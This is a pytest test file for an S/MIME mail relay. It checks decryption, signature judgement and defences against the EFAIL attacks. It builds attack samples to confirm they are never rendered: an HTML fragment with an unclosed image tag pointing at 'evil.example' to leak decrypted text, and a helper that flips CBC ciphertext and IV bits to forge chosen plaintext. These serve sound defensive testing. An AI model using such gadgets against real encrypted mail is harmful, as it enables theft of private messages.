"""Encrypted letters: what is opened, what is shown of it, and what stays closed."""

from __future__ import annotations

import base64
import subprocess
from collections.abc import Callable
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from certs import envelope
from certs.chain import TrustStore
from certs.envelope import Recipe
from certs.openers import LocalOpener, Opener
from certs.throwaway import Issued, Pki
from relay import canonical, opening, smime
from relay.message import scan
from relay.model import (
    SignatureState,
    Signer,
    Verdict,
)
from relay.opening import Opening, Shown
from tests.relay.sealed import CBC, FROM, GCM, Mail, altered, replace_key

HTML = "<p>bonjour <img src='http://evil.example/"


@pytest.fixture
def opens(trust: TrustStore, today: datetime, opener: Opener) -> Callable[..., Opening | None]:
    def look(letter: bytes, *openers: Opener) -> Opening | None:
        return opening.opened(scan(letter), Verdict(), openers or (opener,), trust, today)

    return look


# --- what is opened -----------------------------------------------------------------------------------------


def test_a_sealed_letter_is_opened_with_its_header_outside(
    raw: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """GCM vouches for the content: the outer fields stay, the inner entity is the letter, nothing is signed."""
    closed = smime.encrypt(raw, [reader.der])
    assert scan(closed).root.params["smime-type"] == "authEnveloped-data"
    assert b"IHE_XDM" not in closed
    found = opens(closed)
    assert (found.shown, found.algorithm) == (Shown.OPENED, "aes-256-gcm")
    assert found.verdict.signature is SignatureState.NONE
    message = scan(found.letter)
    assert message.value("Subject") == scan(raw).value("Subject")
    assert [part.filename for part in message.parts] == ["", "", "IHE_XDM.zip"]
    assert message.parts[-1].decode() == b"PK\x03\x04"


@pytest.mark.parametrize("recipe", [GCM, CBC])
def test_the_signature_inside_is_judged_again(
    signed: bytes, reader: Issued, opens: Callable[..., Any], recipe: Recipe
) -> None:
    """Signed, then encrypted: whatever the cipher, a valid signature over all of it vouches for the content."""
    found = opens(smime.encrypt(signed, [reader.der], recipe))
    assert found.shown is Shown.OPENED
    assert (found.verdict.signature, found.verdict.signer) == (SignatureState.VALID, Signer.MAILBOX)
    assert len(found.verdict.evidence) == 1


def test_openssl_reads_what_we_encrypt(raw: bytes, reader: Issued, tmp_path: Path) -> None:
    """The other reader, with GCM and OAEP; the archive is inside."""
    certificate, key = reader.write(tmp_path, "reader")
    (tmp_path / "letter.eml").write_bytes(smime.encrypt(raw, [reader.der]))
    command = ["openssl", "cms", "-decrypt", "-in", str(tmp_path / "letter.eml"), "-recip", str(certificate)]
    read = subprocess.run([*command, "-inkey", str(key)], capture_output=True, check=True).stdout
    assert scan(read).parts[-1].filename == "IHE_XDM.zip"


def test_bcc_has_a_letter_of_its_own(raw: bytes, reader: Issued, pki: Pki, opens: Callable[..., Any]) -> None:
    """Nobody sees in his letter that a hidden reader has one, nor can open the other's."""
    hidden = replace_key(pki, reader)
    copy = raw.replace(b"To: ", b"Bcc: secret@parc.mssante.example\r\nTo: ", 1)
    shared, apart = smime.encrypt_apart(copy, [reader.der], [hidden.der])
    assert b"secret@parc" not in shared + apart
    other = LocalOpener(hidden.der, hidden.key)
    assert (opens(shared).shown, opens(shared, other)) == (Shown.OPENED, None)
    assert (opens(apart), opens(apart, other).shown) == (None, Shown.OPENED)


def test_without_a_key_of_ours_nothing_happens(raw: bytes, reader: Issued, pki: Pki, opens: Callable[..., Any]) -> None:
    """Encrypted to somebody else's certificate: not ours to open, and no failure."""
    other = replace_key(pki, reader)
    assert opens(smime.encrypt(raw, [other.der])) is None


def test_a_signature_around_a_closed_letter(
    signed: bytes, reader: Issued, mailbox: Issued, trust: TrustStore, today: datetime, opener: Opener
) -> None:
    """RFC 2634 §1.1: the letter inside is opened and judged; where the outer signature fails, nothing is opened."""
    wrapped = smime.sign(smime.encrypt(signed, [reader.der], CBC), mailbox.signer(), today)
    message = scan(wrapped)
    outer = smime.judge(message, trust, today)
    found = opening.opened(message, outer, [opener], trust, today)
    assert found is not None
    assert (outer.signature, found.shown, found.verdict.signature) == (
        SignatureState.VALID,
        Shown.OPENED,
        SignatureState.VALID,
    )
    spoilt = scan(altered(wrapped, 0.2))
    failed = smime.judge(spoilt, trust, today)
    assert failed.signature is SignatureState.INVALID
    assert opening.opened(spoilt, failed, [opener], trust, today) is None


def test_a_signature_around_is_no_word_for_the_content(
    raw: bytes, reader: Issued, mailbox: Issued, trust: TrustStore, today: datetime, opener: Opener
) -> None:
    """EFAIL: whoever changes the ciphertext may sign it anew; only what is inside vouches."""
    message = scan(smime.sign(smime.encrypt(raw, [reader.der], CBC), mailbox.signer(), today))
    outer = smime.judge(message, trust, today)
    found = opening.opened(message, outer, [opener], trust, today)
    assert found is not None
    assert (outer.signature, found.shown) == (SignatureState.VALID, Shown.TEXT_ONLY)


# --- EFAIL --------------------------------------------------------------------------------------------------


def test_cbc_without_a_signature_is_text_only(raw: bytes, reader: Issued, opens: Callable[..., Any]) -> None:
    """CVE-2017-17688, -17689: nobody vouches for it; its text alone is shown, and its parts are never handed on."""
    closed = smime.encrypt(raw, [reader.der], CBC)
    found = opens(closed)
    assert (found.shown, found.letter) == (Shown.TEXT_ONLY, closed)
    assert "voici l'archive" in found.text
    assert "smime.unauthenticated" in found.verdict.findings


@pytest.mark.parametrize("broken", ["altered", "partial", "another-address"])
def test_cbc_with_a_signature_that_does_not_hold_for_all_is_text_only(
    signed: bytes, reader: Issued, pki: Pki, raw: bytes, today: datetime, opens: Callable[..., Any], broken: str
) -> None:
    """Only VALID vouches: not a signature that is false, nor one over a part, nor a stranger's."""
    stranger = pki.smime("x@ailleurs.example", "X", "AILLEURS", "1750000009")
    inner = signed[signed.index(b"Content-Type: multipart/signed") :]
    letters = {
        "altered": signed.replace(b"voici", b"voila"),
        "partial": b"From: " + FROM.encode() + b"\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n"
        b"--o\r\nContent-Type: text/html\r\n\r\n" + HTML.encode() + b"\r\n--o\r\n" + inner + b"\r\n--o--\r\n",
        "another-address": smime.sign(raw, stranger.signer(), today),
    }
    found = opens(smime.encrypt(letters[broken], [reader.der], CBC))
    assert found.shown is Shown.TEXT_ONLY
    assert found.verdict.signature is not SignatureState.VALID


def test_without_the_check_cbc_would_be_rendered(
    raw: bytes, reader: Issued, opens: Callable[..., Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The twin that shows which check holds it back."""
    monkeypatch.setattr(opening, "may_be_rendered", lambda answer, verdict: True)
    assert opens(smime.encrypt(raw, [reader.der], CBC)).shown is Shown.OPENED


def test_the_text_shown_is_text_alone(make_mail: Mail) -> None:
    """No HTML, no control characters, no attachment; a letter without text shows none."""
    text = make_mail("un\x1b[31m deux\n")
    assert opening.text_of(scan(text)).splitlines() == ["un [31m deux"]
    html = b"Content-Type: text/html\r\n\r\n" + HTML.encode()
    assert opening.text_of(scan(html)) == ""
    attached = b"Content-Type: text/plain\r\nContent-Disposition: attachment\r\n\r\nx\r\n"
    assert opening.text_of(scan(attached)) == ""
    strange = b"Content-Type: text/plain; charset=unheard-of\r\n\r\nbonjour"
    assert opening.text_of(scan(strange)) == "bonjour"
    latin = b"Content-Type: text/plain; charset=iso-8859-1\r\n\r\n\xe9t\xe9"
    assert opening.text_of(scan(latin)) == "été"


AES_256_CBC = bytes.fromhex("060960864801650304012a0410")
"""The algorithm as it stands before its IV."""


def rewritten(closed: bytes, spot: int, change: bytes) -> bytes:
    """EFAIL's gadget: a block of ciphertext, or the IV (block -1), changed so that the plaintext after it changes."""
    data = bytearray(scan(closed).root.decode())
    iv = data.index(AES_256_CBC) + len(AES_256_CBC)
    content = data.index(b"\x80", iv + 16)
    start = iv if spot < 0 else content + 4 + 16 * spot
    for at, bit in enumerate(change):
        data[start + at] ^= bit
    head = closed[: closed.index(b"\r\n\r\n") + 4]
    return head + base64.encodebytes(bytes(data)).replace(b"\n", b"\r\n")


def test_a_rewritten_block_is_never_rendered(
    raw: bytes, signed: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """Each block of the content flipped in turn, signed inside or not: never shown as itself, so never filed."""
    content = canonical.content(scan(signed))
    first = content.index(b"\r\n--pli-") // 16 + 5  # what lies before is over nothing that is shown
    for letter, spots in ((raw, range(-1, 20)), (signed, range(first, first + 20))):
        closed = smime.encrypt(letter, [reader.der], CBC)
        assert opens(closed) is not None
        shown = [found.shown for found in (opens(rewritten(closed, spot, b"\x01")) for spot in spots) if found]
        assert set(shown) <= {Shown.TEXT_ONLY, Shown.CLOSED}
        assert Shown.TEXT_ONLY in shown


def test_a_known_beginning_turned_into_another_is_text_only(
    raw: bytes, reader: Issued, opens: Callable[..., Any]
) -> None:
    """The IV lets an attacker write the first sixteen bytes as he likes: and nothing is drawn."""
    known, wanted = b"Content-Type: mu", b"Content-Type: xu"
    change = bytes(a ^ b for a, b in zip(known, wanted, strict=True))
    closed = smime.encrypt(raw, [reader.der], CBC)
    found = opens(rewritten(closed, -1, change))
    assert (found.shown, found.text) == (Shown.TEXT_ONLY, "")
    assert opens(closed).text != ""


def test_an_encrypted_part_is_never_merged(raw: bytes, reader: Issued, opens: Callable[..., Any]) -> None:
    """EFAIL's direct exfiltration: HTML around an encrypted part. It is not even opened."""
    closed = smime.encrypt(raw, [reader.der])
    part = closed[closed.index(b"Content-Type: application/pkcs7-mime") :]
    html = b"--o\r\nContent-Type: text/html\r\n\r\n" + HTML.encode() + b"\r\n--o\r\n"
    letter = f"From: {FROM}\r\nContent-Type: multipart/mixed; boundary=o\r\n\r\n".encode() + html + part + b"\r\n--o--"
    assert opens(letter) is None


# --- what does not open -------------------------------------------------------------------------------------


@pytest.mark.parametrize("recipe", [GCM, CBC])
def test_what_does_not_open_has_one_answer(
    raw: bytes, reader: Issued, opens: Callable[..., Any], recipe: Recipe
) -> None:
    """A changed key, a changed end, in the middle: closed or text only, the same words, the bytes as they came."""
    closed = smime.encrypt(raw, [reader.der], recipe)
    answers = [opens(altered(closed, at)) for at in (0.3, 0.6, 0.97)]
    told = [each for each in answers if each is not None and each.shown is Shown.CLOSED]
    assert told
    assert {(each.verdict, each.algorithm, each.text) for each in told} == {
        (Verdict(findings=("smime.not-opened",)), "", "")
    }
    assert all(each is None or each.shown is not Shown.OPENED for each in answers)


def test_content_that_no_server_would_take_is_no_letter(reader: Issued, opens: Callable[..., Any]) -> None:
    """A late refusal by the mailbox server would be an answer to the sender; line ends are mended where they can be."""

    def letter(content: bytes) -> bytes:
        head = b"From: " + FROM.encode() + b"\r\nContent-Type: application/pkcs7-mime\r\n"
        data = base64.encodebytes(envelope.encrypt(content, [reader.der])).replace(b"\n", b"\r\n")
        return head + b"Content-Transfer-Encoding: base64\r\n\r\n" + data

    mended = opens(letter(b"Content-Type: text/plain\n\nbonjour\n"))
    assert mended.shown is Shown.OPENED
    assert scan(mended.letter).root.decode().split() == [b"bonjour"]
    assert opens(letter(b"no header\0\n\nx")).shown is Shown.CLOSED
    bare = b"Content-Type: multipart/signed; boundary=b\r\n\r\n--b\r\n\r\nx\n\r\n--b--\r\n"
    assert opens(letter(bare)).shown is Shown.CLOSED
